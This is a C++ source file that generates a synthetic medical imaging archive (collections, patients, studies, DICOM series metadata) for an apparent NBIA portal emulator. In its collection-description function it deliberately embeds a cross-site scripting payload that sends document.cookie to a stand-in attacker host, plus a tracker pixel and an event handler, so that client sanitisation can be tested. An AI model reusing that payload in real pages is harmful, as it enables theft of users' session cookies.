#include "archivegenerator.h"

#include "deterministicrandom.h"
#include "syntheticimagefactory.h"

#include <QTimeZone>

#include <array>
#include <cmath>

namespace nbia::emulator {

using namespace Qt::StringLiterals;

namespace {

struct ModalityProfile {
    QLatin1StringView modality;
    int rows;
    int columns;
    int bitsAllocated;
    int minImages;
    int maxImages;
    QList<QString> descriptions;
};

struct CollectionTemplate {
    QString name;
    QString site;
    QString patientPrefix;
    double weight;
    QList<QLatin1StringView> modalities; // repeated entries weigh more
    QList<QString> bodyParts;
    QList<QString> studyDescriptions;
    int license;
    bool phantom;
};

struct Scanner {
    QString manufacturer;
    QString model;
    QString software;
};

const ModalityProfile &profileFor(QLatin1StringView modality) {
    static const QList<ModalityProfile> profiles{
        {"CT"_L1,
         256,
         256,
         16,
         16,
         96,
         {u"CHEST W/O CONTRAST"_s, u"1.25mm STD / Lung"_s, u"Recon 2: 0.625 mm"_s,
          u"Thorax 1.0 B70f"_s, u"AXIAL  5mm"_s, u"Körper nativ 3.0 B31f"_s,
          u"Low-dose screening protocol – helical acquisition, 120 kVp / 40 mAs, reconstructed "
          u"at 1.25 mm with a sharp kernel (B70f) and iterative reconstruction level 3; reviewed "
          u"by two readers: nodules ≥ 4 mm annotated"_s}},
        {"MR"_L1,
         256,
         256,
         16,
         12,
         48,
         {u"T1 AX POST GAD"_s, u"t2_tse_tra"_s, u"DCE: dynamic 1/6"_s, u"DWI b=0,800"_s,
          u"FLAIR ax – fat sat"_s, u"ADC (10^-6 mm²/s)"_s}},
        {"PT"_L1, 128, 128, 16, 16, 64, {u"PET AC 3D"_s, u"WB MAC"_s, u"PET NAC/recon"_s}},
        {"MG"_L1, 384, 320, 16, 1, 4, {u"L CC"_s, u"R MLO"_s, u"L MLO"_s, u"R CC"_s}},
        {"CR"_L1, 320, 320, 8, 1, 2, {u"CHEST PA"_s, u"CHEST AP (portable)"_s, u"Lateral"_s}},
        {"US"_L1,
         240,
         320,
         8,
         1,
         4,
         {u"THYROID LT TRANSVERSE"_s, u"Cine: right lobe, sagittal"_s, u"Doppler – isthmus"_s}},
        {"SEG"_L1, 256, 256, 1, 1, 1, {u"Segmentation: lesion"_s, u"AI nodule mask v1.2"_s}},
        {"RTSTRUCT"_L1, 0, 0, 0, 1, 1, {u"RTSTRUCT: GTV/CTV/PTV"_s, u"Contours – clinician 1"_s}},
    };
    for (const ModalityProfile &profile : profiles) {
        if (profile.modality == modality)
            return profile;
    }
    return profiles.first();
}

const QList<CollectionTemplate> &collectionTemplates() {
    static const QList<CollectionTemplate> templates{
        {u"Lung-Screening-CT"_s,
         u"Duke University"_s,
         u"LSCT"_s,
         0.80,
         {"CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "SEG"_L1},
         {u"CHEST"_s, u"LUNG"_s},
         {u"CT CHEST SCREENING"_s, u"LDCT LUNG / follow-up"_s},
         0,
         false},
        {u"Breast-MRI-Dynamic"_s,
         u"MD Anderson"_s,
         u"BRMR"_s,
         0.03,
         {"MR"_L1, "MR"_L1, "MR"_L1, "SEG"_L1},
         {u"BREAST"_s},
         {u"MRI BREAST BILAT W/WO"_s, u"Breast^DCE"_s},
         1,
         false},
        {u"Prostate-PET-MR"_s,
         u"Mayo Clinic"_s,
         u"PPMR"_s,
         0.03,
         {"PT"_L1, "MR"_L1, "CT"_L1},
         {u"PROSTATE"_s, u"PELVIS"_s},
         {u"PET/CT WHOLE BODY"_s, u"MR PROSTATE mpMRI"_s},
         2,
         false},
        {u"HeadNeck-RT"_s,
         u"MAASTRO"_s,
         u"HNRT"_s,
         0.03,
         {"CT"_L1, "CT"_L1, "RTSTRUCT"_L1},
         {u"HEADNECK"_s, u"HEAD"_s, u"NECK"_s},
         {u"RT PLANNING CT"_s, u"Head & Neck: sim"_s},
         0,
         false},
        {u"Brain-Glioma-MR"_s,
         u"University of Pennsylvania"_s,
         u"BGMR"_s,
         0.03,
         {"MR"_L1},
         {u"BRAIN"_s, u"HEAD"_s},
         {u"Brain^Routine"_s, u"MRI BRAIN W/WO: tumour protocol"_s},
         1,
         false},
        {u"Mammo-Screening"_s,
         u"Emory"_s,
         u"MAMS"_s,
         0.02,
         {"MG"_L1},
         {u"BREAST"_s},
         {u"MAMMO SCREEN BILAT"_s},
         2,
         false},
        {u"Chest-Radiography"_s,
         u"NIH Clinical Center"_s,
         u"CXR"_s,
         0.02,
         {"CR"_L1},
         {u"CHEST"_s},
         {u"XR CHEST 2 VIEWS"_s},
         0,
         false},
        {u"Pancreas-CT-Seg"_s,
         u"Johns Hopkins"_s,
         u"PANC"_s,
         0.02,
         {"CT"_L1, "CT"_L1, "SEG"_L1},
         {u"PANCREAS"_s, u"ABDOMEN"_s},
         {u"CT ABD/PELVIS W CONTRAST"_s},
         1,
         false},
        {u"Colon Phantom Study"_s,
         u"NCI"_s,
         u"CPS"_s,
         0.01,
         {"CT"_L1},
         {u"COLON"_s},
         {u"Phantom scan: session 1"_s},
         0,
         true},
        {u"Pediatric-Liver-Tumör"_s,
         u"Hôpital Necker"_s,
         u"PLT"_s,
         0.006,
         {"CT"_L1, "MR"_L1},
         {u"LIVER"_s, u"ABDOMEN"_s},
         {u"Tumör – Follow-up"_s, u"CT ABDOMEN"_s},
         2,
         false},
        {u"Thyroid-Ultrasound"_s,
         u"Stanford"_s,
         u"THUS"_s,
         0.004,
         {"US"_L1},
         {u"THYROID"_s, u"NECK"_s},
         {u"US THYROID"_s, u"Thyroid nodule: FNA guidance"_s},
         1,
         false},
    };
    return templates;
}

// The one collection of the NLST-like archive: low-dose CT screening, a few radiographs.
const QList<CollectionTemplate> &nlstTemplates() {
    static const QList<CollectionTemplate> templates{
        {u"NLST"_s,
         u"NLST-LSS"_s,
         u"NLST"_s,
         1.0,
         {"CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "CT"_L1, "CR"_L1},
         {u"CHEST"_s, u"LUNG"_s},
         {u"NLST-LSS screening T0"_s, u"NLST-LSS screening T1"_s, u"NLST-LSS screening T2"_s},
         1,
         false},
    };
    return templates;
}

// Each collection's description, HTML as the portal edits it: a paragraph, a link, a list.
// HeadNeck-RT's also carries what a client must neutralise before showing it (a script, a
// remote image, an event handler); Thyroid-Ultrasound has none.
QString descriptionOf(const QString &name, const QString &doi, const QString &modalities) {
    if (name == "Thyroid-Ultrasound"_L1)
        return {};
    QString html = u"<p>The <strong>"_s + name +
                   u"</strong> collection: de-identified images for research.</p>"
                   u"<p>Cite it as described on <a href=\""_s +
                   doi + u"\">its data description page</a>.</p><ul><li>Modalities: "_s +
                   modalities +
                   u"</li><li>Licence: see the LICENSE file of each download</li></ul>"_s;
    if (name == "HeadNeck-RT"_L1) {
        html += u"<script>document.location='http://evil.example.com/?c='+document.cookie"
                u"</script><img src=\"http://tracker.example.com/pixel.gif\" width=\"1\">"
                u"<p onclick=\"alert('clicked')\">Planning CTs &amp; structure sets.</p>"_s;
    }
    return html;
}

const QList<Scanner> &scannersFor(QLatin1StringView modality) {
    static const QList<Scanner> ct{
        {u"GE MEDICAL SYSTEMS"_s, u"LightSpeed VCT"_s, u"LightSpeedverrel"_s},
        {u"SIEMENS"_s, u"SOMATOM Definition AS+"_s, u"syngo CT 2012B"_s},
        {u"Philips"_s, u"Brilliance 64"_s, u"3.5.5"_s},
        {u"TOSHIBA"_s, u"Aquilion ONE"_s, u"V6.00ER010"_s},
        {QString(), QString(), QString()}};
    static const QList<Scanner> mr{
        {u"GE MEDICAL SYSTEMS"_s, u"DISCOVERY MR750"_s, u"DV25.0_R02"_s},
        {u"SIEMENS"_s, u"Skyra"_s, u"syngo MR E11"_s},
        {u"Philips Medical Systems"_s, u"Ingenia"_s, u"5.3.1\\5.3.1.0"_s}};
    static const QList<Scanner> pt{
        {u"SIEMENS"_s, u"Biograph 128 / mCT"_s, u"VG60A"_s},
        {u"GE MEDICAL SYSTEMS"_s, u"Discovery 690"_s, u"pet_coreload.46"_s}};
    static const QList<Scanner> mg{{u"Hologic, Inc."_s, u"Selenia Dimensions"_s, u"1.8.4.3"_s},
                                   {u"SIEMENS"_s, u"Mammomat Inspiration"_s, u"VB30"_s}};
    static const QList<Scanner> cr{{u"FUJIFILM Corporation"_s, u"FCR5000"_s, u"A06"_s},
                                   {u"Carestream Health"_s, u"DRX-Revolution"_s, u"5.7"_s}};
    static const QList<Scanner> us{{u"GE Healthcare"_s, u"LOGIQ E9"_s, u"R6.1.1"_s},
                                   {u"Philips"_s, u"EPIQ 7G"_s, u"7.0.5"_s}};
    static const QList<Scanner> derived{{u"Varian Medical Systems"_s, u"ARIA RadOnc"_s, u"13.6"_s},
                                        {u"QIICR"_s, u"dcmqi"_s, u"1.2.4"_s}};
    if (modality == "CT"_L1)
        return ct;
    if (modality == "MR"_L1)
        return mr;
    if (modality == "PT"_L1)
        return pt;
    if (modality == "MG"_L1)
        return mg;
    if (modality == "CR"_L1)
        return cr;
    if (modality == "US"_L1)
        return us;
    return derived;
}

// "2.25." followed by a 38-digit number: the form of UUID-derived UIDs, unique per seed and key.
QString makeUid(quint32 seed, quint64 kind, quint64 index) {
    const quint64 high = DeterministicRandom::mix(seed, kind, index);
    const quint64 low = DeterministicRandom::mix(high, index, kind);
    constexpr quint64 nineteenDigits = 1000000000000000000ULL;
    return u"2.25."_s + QString::number(high % (9 * nineteenDigits) + nineteenDigits) +
           QString::number(low % (10 * nineteenDigits)).rightJustified(19, u'0');
}

QDate randomDate(DeterministicRandom &random, QDate from, QDate to) {
    return from.addDays(qint64(random.next() % quint64(from.daysTo(to) + 1)));
}

class Builder {
public:
    Builder(const ArchiveSpec &spec, ArchiveData &archive)
        : m_spec(spec)
        , m_archive(archive)
        , m_random(spec.seed) {}

    void run() {
        m_archive.licenses = {
            {u"Creative Commons Attribution 3.0 Unported License"_s, u"CC BY 3.0"_s,
             u"http://creativecommons.org/licenses/by/3.0/"_s},
            {u"Creative Commons Attribution 4.0 International License"_s, u"CC BY 4.0"_s,
             u"https://creativecommons.org/licenses/by/4.0/"_s},
            {u"Creative Commons Attribution-NonCommercial 4.0 International License"_s,
             u"CC BY-NC 4.0"_s, u"https://creativecommons.org/licenses/by-nc/4.0/"_s},
        };
        const QList<CollectionTemplate> &templates =
            m_spec.kind == ArchiveSpec::Kind::Nlst ? nlstTemplates() : collectionTemplates();
        for (qsizetype c = 0; c < templates.size(); ++c) {
            const int budget =
                std::max(1, int(std::lround(templates[c].weight * m_spec.seriesCount)));
            addCollection(templates[c], budget);
        }
        addSharedLists();
        linkDerivedSeries();
        qsizetype resized = 0;
        for (ArchiveSeries &series : m_archive.series) {
            if (resized < m_spec.resizedSeries.size() && series.modality == "CT"_L1 &&
                series.encoding == PixelEncoding::Uncompressed)
                series.imageCount = m_spec.resizedSeries.at(resized++);
        }
    }

private:
    void addCollection(const CollectionTemplate &tmpl, int seriesBudget) {
        ArchiveCollection collection;
        collection.name = tmpl.name;
        collection.doi = u"https://doi.org/10.7937/SYNTH."_s + tmpl.patientPrefix + u'.' +
                         QString::number(m_spec.seed);
        collection.license = tmpl.license;
        collection.site = tmpl.site;
        QStringList modalities;
        for (const QLatin1StringView m : tmpl.modalities) {
            if (!modalities.contains(QString(m)))
                modalities.append(QString(m));
        }
        collection.description = descriptionOf(tmpl.name, collection.doi, modalities.join(u", "_s));
        collection.descriptionId = int(m_archive.collections.size()) + 1;
        collection.firstPatient = m_archive.patients.size();
        const int collectionIndex = int(m_archive.collections.size());
        const QDate released = randomDate(m_random, QDate(2012, 1, 1), QDate(2024, 6, 30));

        int patientNumber = 0;
        while (seriesBudget > 0) {
            ArchivePatient patient;
            ++patientNumber;
            patient.id = nlst() ? QString::number(100000 + patientNumber)
                                : tmpl.patientPrefix + u'-' +
                                      QString::number(patientNumber).rightJustified(4, u'0');
            patient.name = m_random.chance(0.7) ? patient.id : QString(u""_s);
            patient.sex = tmpl.modalities.contains("MG"_L1)
                              ? u"F"_s
                              : QList<QString>{u"M"_s, u"F"_s, u"M"_s, u"F"_s, u"O"_s}.at(
                                    m_random.between(0, 4));
            if (m_random.chance(0.1))
                patient.birthDate = randomDate(m_random, QDate(1930, 1, 1), QDate(2000, 12, 31));
            if (m_random.chance(0.2))
                patient.ethnicGroup =
                    m_random.chance(0.5) ? u"White"_s : u"Black or African American"_s;
            if (tmpl.phantom) {
                patient.phantom = u"YES"_s;
                patient.speciesDescription = u"Phantom"_s;
            }
            patient.collection = collectionIndex;
            patient.firstStudy = m_archive.studies.size();
            const int studies = std::min(seriesBudget, m_random.between(1, 3));
            for (int s = 0; s < studies && seriesBudget > 0; ++s)
                seriesBudget -= addStudy(tmpl, patient, released, seriesBudget);
            patient.studyCount = m_archive.studies.size() - patient.firstStudy;
            m_archive.patients.append(patient);
        }
        collection.patientCount = m_archive.patients.size() - collection.firstPatient;
        m_archive.collections.append(collection);
    }

    int addStudy(const CollectionTemplate &tmpl, const ArchivePatient &patient, QDate released,
                 int seriesBudget) {
        ArchiveStudy study;
        const qsizetype index = m_archive.studies.size();
        study.uid = makeUid(m_spec.seed, uidKind(2), quint64(index));
        study.date = randomDate(m_random, QDate(1995, 1, 1), QDate(2020, 12, 31));
        if (!m_random.chance(0.05))
            study.description = m_random.pick(tmpl.studyDescriptions);
        if (m_random.chance(0.15))
            study.admittingDiagnoses = u"Carcinoma, NOS (8010/3)"_s;
        if (!m_random.chance(0.1))
            study.studyId = QString::number(m_random.between(1, 99999));
        study.patientAge = u"0"_s + QString::number(m_random.between(18, 89)) + u'Y';
        if (m_random.chance(0.2)) {
            study.longitudinalEventType = u"Enrollment"_s;
            study.longitudinalOffset = double(m_random.between(0, 720));
        }
        study.patient = m_archive.patients.size();
        study.firstSeries = m_archive.series.size();
        // NLST's screening rounds hold one or two CT reconstructions (or a radiograph) each.
        const int count = std::min(seriesBudget, m_random.between(1, nlst() ? 2 : 5));
        for (int i = 0; i < count; ++i)
            addSeries(tmpl, study, released, i + 1);
        study.seriesCount = m_archive.series.size() - study.firstSeries;
        Q_UNUSED(patient)
        m_archive.studies.append(study);
        return int(study.seriesCount);
    }

    void addSeries(const CollectionTemplate &tmpl, const ArchiveStudy &study, QDate released,
                   int positionInStudy) {
        const qsizetype index = m_archive.series.size();
        const QLatin1StringView modality = m_random.pick(tmpl.modalities);
        const ModalityProfile &profile = profileFor(modality);
        ArchiveSeries series;
        series.uid = makeUid(m_spec.seed, uidKind(3), quint64(index));
        series.modality = QString(modality);
        const double roll = double(m_random.next() % 1000) / 1000.0;
        if (roll >= 0.03) {
            series.bodyPart = m_random.pick(tmpl.bodyParts);
            if (roll < 0.08) // stored in mixed case; getBodyPartValues upper-cases it
                series.bodyPart = series.bodyPart.left(1) + series.bodyPart.mid(1).toLower();
        }
        const Scanner &scanner = m_random.pick(scannersFor(modality));
        series.manufacturer = scanner.manufacturer;
        series.model = scanner.model;
        series.software = scanner.software;
        if (m_random.chance(0.6))
            series.protocol =
                series.modality + u" "_s + tmpl.bodyParts.first().toLower() + u" routine"_s;
        if (!m_random.chance(0.05))
            series.description = m_random.pick(profile.descriptions);
        if (m_random.chance(0.3))
            series.thirdPartyAnalysis = m_random.chance(0.2) ? u"YES"_s : u"NO"_s;
        series.seriesNumber =
            m_random.chance(0.1) ? 3000000 + m_random.between(0, 9999) : positionInStudy;
        series.imageCount = m_random.between(profile.minImages, profile.maxImages);
        series.rows = profile.rows;
        series.columns = profile.columns;
        series.bitsAllocated = profile.bitsAllocated;
        series.encoding = pickEncoding(profile);
        pickPixelForm(series, index);
        if (m_random.chance(0.8))
            series.annotations = m_random.chance(0.15);
        QDate seriesReleased = released;
        if (m_random.chance(0.15)) // a later addition to the collection
            seriesReleased =
                std::min(released.addDays(m_random.between(30, 900)), QDate(2026, 6, 30));
        series.released = QDateTime(seriesReleased, QTime(0, 0), QTimeZone::utc());
        series.submitted = QDateTime(
            seriesReleased.addDays(-m_random.between(1, 60)),
            QTime(m_random.between(0, 23), m_random.between(0, 59), m_random.between(0, 59)),
            QTimeZone::utc());
        const bool threeSamples =
            series.colour == ColourModel::Rgb || series.colour == ColourModel::YbrFull;
        series.imageFileSize = SyntheticImageFactory::paddedFileSize(
            series.rows, series.columns, series.bitsAllocated, threeSamples ? 3 : 1, series.frames);
        series.study = m_archive.studies.size();
        Q_UNUSED(study)
        m_archive.series.append(series);
    }

    PixelEncoding pickEncoding(const ModalityProfile &profile) {
        if (profile.bitsAllocated <= 1 || profile.rows == 0)
            return PixelEncoding::Uncompressed;
        const int roll = m_random.between(0, 99);
        if (roll < 65)
            return PixelEncoding::Uncompressed;
        if (roll < 75)
            return profile.bitsAllocated == 8 ? PixelEncoding::JpegBaseline
                                              : PixelEncoding::JpegLossless;
        if (roll < 85)
            return PixelEncoding::JpegLossless;
        if (roll < 93)
            return PixelEncoding::JpegLs;
        return PixelEncoding::Rle;
    }

    // The less common forms pixels come in, as found in the archive's collections: radiographs
    // stored white-is-low, older MR in big endian or 12-bit lossy JPEG, some CT in JPEG 2000, and
    // ultrasound in colour, often as cine loops. Drawn from a hash of the series, not from
    // m_random, so that the rest of the archive stays as it was.
    void pickPixelForm(ArchiveSeries &series, qsizetype index) const {
        const quint64 roll = DeterministicRandom::mix(m_spec.seed, 17, quint64(index)) % 100;
        if (series.modality == "CR"_L1 && roll < 50) {
            series.colour = ColourModel::Monochrome1;
        } else if (series.modality == "MR"_L1 && series.encoding == PixelEncoding::Uncompressed &&
                   roll < 20) {
            series.encoding = PixelEncoding::BigEndian;
        } else if (series.modality == "MR"_L1 && series.encoding == PixelEncoding::Uncompressed &&
                   roll < 30) {
            series.encoding = PixelEncoding::JpegExtended; // 12-bit lossy
        } else if (series.modality == "CT"_L1 && roll < 4) {
            series.encoding = PixelEncoding::Jpeg2000;
        } else if (series.modality == "US"_L1) {
            series.colour = roll < 60   ? ColourModel::Rgb
                            : roll < 80 ? ColourModel::YbrFull
                                        : ColourModel::PaletteColor;
            if (roll < 40)
                series.encoding = PixelEncoding::JpegBaseline; // YBR_FULL_422, as scanners send
            else if (roll < 60)
                series.encoding = PixelEncoding::Uncompressed;
            if (roll % 2 == 0)
                series.frames = 6 + int(roll % 7);
        }
    }

    [[nodiscard]] bool nlst() const { return m_spec.kind == ArchiveSpec::Kind::Nlst; }
    // The NLST-like archive draws its UIDs from other keys, so none equals a TCIA-like one.
    [[nodiscard]] quint64 uidKind(quint64 kind) const { return nlst() ? kind + 100 : kind; }

    // A SEG or RTSTRUCT is drawn on an image series: the first CT, MR or PT series of its study,
    // else (a study holding only derived objects) of its patient, of its collection, of the
    // archive.
    void linkDerivedSeries() {
        auto isSource = [this](qsizetype i) {
            const QString &m = m_archive.series[i].modality;
            return m == "CT"_L1 || m == "MR"_L1 || m == "PT"_L1;
        };
        auto firstSource = [&](qsizetype begin, qsizetype end) -> qsizetype {
            for (qsizetype i = begin; i < end; ++i) {
                if (isSource(i))
                    return i;
            }
            return -1;
        };
        for (qsizetype i = 0; i < m_archive.series.size(); ++i) {
            ArchiveSeries &series = m_archive.series[i];
            if (series.modality != "SEG"_L1 && series.modality != "RTSTRUCT"_L1)
                continue;
            const ArchiveStudy &study = m_archive.studies[series.study];
            const ArchivePatient &patient = m_archive.patients[study.patient];
            const ArchiveCollection &collection = m_archive.collections[patient.collection];
            auto seriesOfPatients = [&](qsizetype first, qsizetype count) {
                const ArchivePatient &last = m_archive.patients[first + count - 1];
                const ArchiveStudy &lastStudy =
                    m_archive.studies[last.firstStudy + last.studyCount - 1];
                return std::pair{
                    m_archive.studies[m_archive.patients[first].firstStudy].firstSeries,
                    lastStudy.firstSeries + lastStudy.seriesCount};
            };
            qsizetype source =
                firstSource(study.firstSeries, study.firstSeries + study.seriesCount);
            if (source < 0) {
                const auto [begin, end] = seriesOfPatients(study.patient, 1);
                source = firstSource(begin, end);
            }
            if (source < 0) {
                const auto [begin, end] =
                    seriesOfPatients(collection.firstPatient, collection.patientCount);
                source = firstSource(begin, end);
            }
            if (source < 0)
                source = firstSource(0, m_archive.series.size());
            if (source >= 0)
                series.referencedSeries = {source};
        }
    }

    void addSharedLists() {
        const qsizetype total = m_archive.series.size();
        for (const int size : {5, 20, 60}) {
            SharedList list;
            list.name = u"nbia-"_s +
                        QString::number(DeterministicRandom::mix(m_spec.seed, 7, quint64(size)) %
                                        100000000000000000ULL)
                            .rightJustified(17, u'0');
            for (int i = 0; i < size && i < total; ++i) {
                const qsizetype series = qsizetype(m_random.next() % quint64(total));
                // A cart holds a series once (the archive's query is an IN (…)).
                if (!list.series.contains(series))
                    list.series.append(series);
            }
            m_archive.sharedLists.append(list);
        }
    }

    const ArchiveSpec &m_spec;
    ArchiveData &m_archive;
    DeterministicRandom m_random;
};

} // namespace

ArchiveData ArchiveGenerator::generate(const ArchiveSpec &spec) {
    ArchiveData archive;
    Builder(spec, archive).run();
    return archive;
}

} // namespace nbia::emulator
